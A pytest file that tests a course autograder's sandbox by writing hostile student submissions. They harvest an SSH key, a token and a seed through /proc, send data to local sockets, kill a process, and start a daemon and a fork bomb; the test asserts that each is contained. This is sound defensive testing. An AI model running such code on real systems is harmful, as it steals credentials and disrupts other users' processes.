"""Real attacks on the box student code runs in (grader.gateway.sandbox), each written as a
hostile student would: the reference solutions plus one attack in ex03's accuracy(), which
returns what it stole as its answer (so a success would be printed in the feedback).
Each goes through `python -m grader --submission` and a batch with honest classmates, at
fixtures this test makes: a fake HOME with an ssh key, a token in the grader's environment,
a seed file, listeners on 127.0.0.1, a path and an abstract unix socket, a process to
signal, a file outside scratch. After each: no secret in any output, nothing received,
no process left, the file untouched, the classmates' full marks.

Where this machine lacks a protection, the test says which, and fails under CI.
"""
from __future__ import annotations

import csv
import os
import socket
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from pathlib import Path

import pytest

from grader.course import ROOT, total_points
from grader.gateway import box as boxes, confinement
from tests.conftest import make_submission

TAG = uuid.uuid4().hex[:12]
SSH_KEY = f"SSH-KEY-{TAG}"
TOKEN = f"GH-TOKEN-{TAG}"
SEED = "918273645"                    # the instructor's secret seed
ALICE = f"ALICE-PRIVATE-{TAG}"        # in a classmate's file
STOLEN = "STOLEN"                     # what every attack's answer starts with

# accuracy() runs the attack once per worker; what it got becomes its (wrong) answer.
WRAPPER = '''
import builtins as _builtins
_original_accuracy = accuracy
def accuracy(y_true, y_pred):
    if not getattr(_builtins, "_box_tried", False):
        _builtins._box_tried = True
        stolen = _attack()
        if stolen:
            print("STOLEN", stolen)
            return "STOLEN " + " | ".join(stolen)
    return _original_accuracy(y_true, y_pred)
'''

ATTACKS = {
    "secrets": '''
def _attack():
    import glob, os
    got = []
    for path in [{key!r}, {seed_file!r}] + glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
        try:
            text = open(path, "rb").read().decode(errors="replace")
        except OSError:
            continue
        for secret in ({key_text!r}, {token!r}, {seed!r}, "--seed-file"):
            if secret in text:
                got.append(path + ": " + text.replace("\\0", " ")[:300])
    if os.environ.get("GITHUB_TOKEN"):
        got.append("env " + os.environ["GITHUB_TOKEN"])
    return got
''',
    "network": '''
def _attack():
    import socket
    got = []
    tries = [("tcp", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {tcp_port})),
             ("unix", socket.AF_UNIX, socket.SOCK_STREAM, {unix_path!r}),
             ("abstract", socket.AF_UNIX, socket.SOCK_STREAM, {abstract!r})]
    for name, family, kind, address in tries:
        try:
            with socket.socket(family, kind) as s:
                s.settimeout(2)
                s.connect(address)
                s.sendall(b"STOLEN via " + name.encode())
                got.append(name)
        except OSError:
            pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"STOLEN via udp", ("127.0.0.1", {udp_port}))
            got.append("udp")
    except OSError:
        pass
    return got
''',
    "classmates": '''
def _attack():
    import os, signal
    got = []
    for path in ({alice_file!r}, {csv_path!r}):
        try:
            got.append(open(path).read()[-300:])
        except OSError:
            pass
    try:
        os.kill({victim}, signal.SIGKILL)
        got.append("killed the victim")
    except OSError:
        pass
    return got
''',
    "survivors": '''
def _attack():
    import ctypes, os, time
    libc = ctypes.CDLL(None)
    if os.fork() == 0:                        # the daemon: double fork, its own session
        os.setsid()
        if os.fork() == 0:
            libc.prctl(15, b"boxdaemon")
            for _ in range(60):
                time.sleep(0.5)
                try:
                    open({daemon_file!r}, "a").write("still here\\n")
                except OSError:
                    pass
        os._exit(0)
    started, deadline = 0, time.monotonic() + 3
    while started < 200 and time.monotonic() < deadline:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            if started % 2:
                os.setsid()
            libc.prctl(15, b"boxchild")
            time.sleep(60)
            os._exit(0)
        started += 1
    return ["started %d children" % started] if started >= 200 else []
''',
    "metadata": '''
def _attack():
    import os
    got = []
    try:
        os.chmod({outside!r}, 0o777)
        got.append("chmod")
    except OSError:
        pass
    try:
        os.utime({outside!r}, (1, 1))
        got.append("utime")
    except OSError:
        pass
    return got
''',
}
NEEDS = {      # the layers that stop each attack
    "secrets": (boxes.READS, boxes.PID_NS, boxes.ENVIRONMENT),
    "network": (boxes.NET_NS, boxes.SOCKETS, boxes.TCP, boxes.SCOPE),
    "classmates": (boxes.READS, boxes.PID_NS, boxes.SCOPE),
    "survivors": (boxes.PID_NS, boxes.PROCESSES),
    "metadata": (boxes.MOUNT_NS,),
}


class Listener:
    """Sockets on this machine that record whatever reaches them."""

    def __init__(self, folder: Path):
        self.received: list[bytes] = []
        self.tcp = self._bound(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0))
        self.udp = self._bound(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0))
        self.unix_path = str(folder / "agent.sock")
        self.unix = self._bound(socket.AF_UNIX, socket.SOCK_STREAM, self.unix_path)
        os.chmod(self.unix_path, 0o777)        # so that only the box, not file modes, stops it
        self.abstract = f"\0grader-box-{TAG}"
        self.abstract_socket = self._bound(socket.AF_UNIX, socket.SOCK_STREAM, self.abstract)
        for s in (self.tcp, self.unix, self.abstract_socket):
            s.listen()
            threading.Thread(target=self._accept, args=(s,), daemon=True).start()
        threading.Thread(target=self._datagrams, daemon=True).start()

    @staticmethod
    def _bound(family, kind, address):
        s = socket.socket(family, kind)
        s.bind(address)
        return s

    def _accept(self, server):
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(4096) or b"(a connection)")
                except OSError:
                    self.received.append(b"(a connection)")

    def _datagrams(self):
        while True:
            try:
                self.received.append(self.udp.recv(4096))
            except OSError:
                return


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    root = tmp_path_factory.mktemp("box")
    home = root / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{SSH_KEY}\n")
    seed_file = root / "seed.txt"
    seed_file.write_text(SEED + "\n")
    outside = root / "outside.txt"
    outside.write_text("the instructor's file\n")
    os.chmod(outside, 0o644)
    os.utime(outside, (1_700_000_000, 1_700_000_000))
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)"])
    listener = Listener(root)
    subs = root / "class"
    make_submission(subs / "alice" / "exercises")
    alice_file = subs / "alice" / "exercises" / "ex01_data.py"
    alice_file.write_text(alice_file.read_text() + f"\n# {ALICE}\n")
    make_submission(subs / "bob" / "exercises")
    values = dict(key=str(home / ".ssh" / "id_rsa"), key_text=SSH_KEY, token=TOKEN, seed=SEED,
                  seed_file=str(seed_file), tcp_port=listener.tcp.getsockname()[1],
                  udp_port=listener.udp.getsockname()[1], unix_path=listener.unix_path,
                  abstract=listener.abstract, alice_file=str(alice_file),
                  csv_path=str(root / "grades.csv"), victim=victim.pid,
                  daemon_file=str(root / "daemon-was-here"), outside=str(outside))
    attackers = {}
    for name, code in ATTACKS.items():
        attack = textwrap.dedent(code).format(**values) + WRAPPER
        attackers[name] = make_submission(subs / f"mallory-{name}" / "exercises", ex03=attack)
    env = {**os.environ, "HOME": str(home), "GITHUB_TOKEN": TOKEN}
    yield dict(root=root, env=env, seed_file=seed_file, outside=outside, victim=victim,
               listener=listener, attackers=attackers, subs=subs)
    victim.kill()
    victim.wait()


@pytest.fixture(scope="module")
def box():
    return confinement.probe()


def require(box, attack: str) -> None:
    """Fail under CI, else skip, where this machine lacks a layer the attack needs."""
    missing = [name for name in NEEDS[attack] if not box.applied(name)]
    if missing:
        message = f"this machine lacks {', '.join(missing)}: `python -m grader sandbox` says why"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)


def survivors() -> list[str]:
    """Processes the attacks named, still running."""
    found = []
    for comm in Path("/proc").glob("[0-9]*/comm"):
        try:
            name = comm.read_text().strip()
        except OSError:
            continue
        if name in ("boxdaemon", "boxchild"):
            found.append(f"{name} (pid {comm.parent.name})")
    return found


def assert_contained(world, outputs: str) -> None:
    for secret in (SSH_KEY, TOKEN, SEED, ALICE, STOLEN):
        assert secret not in outputs, f"{secret} reached the output:\n{outputs[:3000]}"
    assert world["listener"].received == [], world["listener"].received
    time.sleep(1.5)                 # the daemon's first write, had it survived
    assert survivors() == []
    assert not (world["root"] / "daemon-was-here").exists()
    assert world["victim"].poll() is None, "the test's process was killed"
    stat = os.stat(world["outside"])
    assert (stat.st_mode & 0o777, stat.st_mtime) == (0o644, 1_700_000_000)


def grader(world, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "grader", *args, "--seed-file", str(world["seed_file"])],
                          capture_output=True, text=True, timeout=600, cwd=ROOT, env=world["env"])


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_an_attack_through_submission_gets_nothing(world, box, attack, tmp_path):
    require(box, attack)
    report = tmp_path / "report.json"
    proc = grader(world, "--submission", str(world["attackers"][attack]), "--format", "json",
                  "--output", str(report))
    assert proc.returncode in (0, 1), proc.stderr
    assert_contained(world, proc.stdout + proc.stderr + report.read_text())


def test_attackers_in_a_batch_get_nothing_and_classmates_keep_full_marks(world, box):
    for attack in ATTACKS:
        require(box, attack)
    grades = world["root"] / "grades.csv"
    proc = grader(world, "batch", str(world["subs"]), "--csv", str(grades), "--jobs", "2", "--quiet")
    assert proc.returncode in (0, 1), proc.stderr
    outputs = [proc.stdout, proc.stderr, grades.read_text()]
    outputs += [p.read_text(errors="replace") for p in world["root"].rglob("*")
                if p.is_file() and p.suffix in (".md", ".json", ".html", ".csv")
                and "class" not in p.relative_to(world["root"]).parts]
    assert_contained(world, "\n".join(outputs))
    with open(grades, newline="") as f:
        totals = {row["student"]: row["total"] for row in csv.DictReader(f)}
    assert float(totals["alice"]) == float(totals["bob"]) == total_points()
    for attack in ATTACKS:
        assert float(totals[f"mallory-{attack}"]) <= total_points()


def test_a_fork_bomb_stops_at_the_process_limit(box, tmp_path):
    """200 children asked for, in a box entered by a small process (this one's fork)."""
    require(box, "survivors")
    from grader.gateway import sandbox

    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            sandbox.enter(str(tmp_path), os.open(os.devnull, os.O_WRONLY), None, keep=(write_end,))
            started = 0
            for _ in range(200):
                try:
                    if os.fork() == 0:
                        time.sleep(60)
                        os._exit(0)
                except OSError:
                    break
                started += 1
            os.write(write_end, str(started).encode())
        finally:
            os._exit(0)
    os.close(write_end)
    started = int(os.read(read_end, 100) or b"-1")
    os.waitpid(pid, 0)
    os.close(read_end)
    assert 0 < started < 200
    assert started <= sandbox.PROCESS_LIMIT


def test_batch_stops_where_student_code_cannot_be_confined(monkeypatch):
    """What batch does on a machine without Landlock or namespaces (macOS, Windows, an
    old kernel, Ubuntu's AppArmor rule): stop and say why, or go on with --unconfined."""
    missing = boxes.unconfined_box("no Landlock here")
    monkeypatch.setattr(confinement, "probe", lambda: missing)
    with pytest.raises(confinement.Unconfined, match="--unconfined") as stopped:
        confinement.require_for_batch(unconfined=False)
    assert "Landlock" in str(stopped.value) and "user namespaces" in str(stopped.value)
    confinement.require_for_batch(unconfined=True)           # goes on


def test_the_sandbox_command_prints_one_row_per_layer():
    proc = subprocess.run([sys.executable, "-m", "grader", "sandbox"], capture_output=True, text=True,
                          timeout=120, cwd=ROOT)
    for name in boxes.STOPS:
        assert name in proc.stdout
    assert proc.returncode == (1 if confinement.probe().missing else 0), proc.stdout + proc.stderr


@pytest.fixture(scope="module")
def autograder(world, tmp_path_factory) -> Path:
    """The Classroom 50 folder, with the instructor's secret seed in it."""
    out = tmp_path_factory.mktemp("runtime") / "multiclass"
    proc = subprocess.run([sys.executable, "-m", "grader", "classroom50", str(out), "--seed-file",
                           str(world["seed_file"])], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return out


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_an_attack_through_the_classroom50_autograder_gets_nothing(world, box, autograder, attack, tmp_path):
    """The runner's job: autograder.py in the student's checkout, the job's token in its
    environment, the seed in the folder beside it."""
    from tests.test_classroom50 import run_autograder

    require(box, attack)
    checkout = tmp_path / "checkout"
    (checkout / "exercises").mkdir(parents=True)
    for path in world["attackers"][attack].glob("*.py"):
        (checkout / "exercises" / path.name).write_bytes(path.read_bytes())
    proc = run_autograder(autograder, checkout, Path(world["env"]["HOME"]), GITHUB_TOKEN=TOKEN)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    outputs = [proc.stdout, proc.stderr] + [(checkout / name).read_text()
                                            for name in ("result.json", "release-body.md")]
    assert_contained(world, "\n".join(outputs))
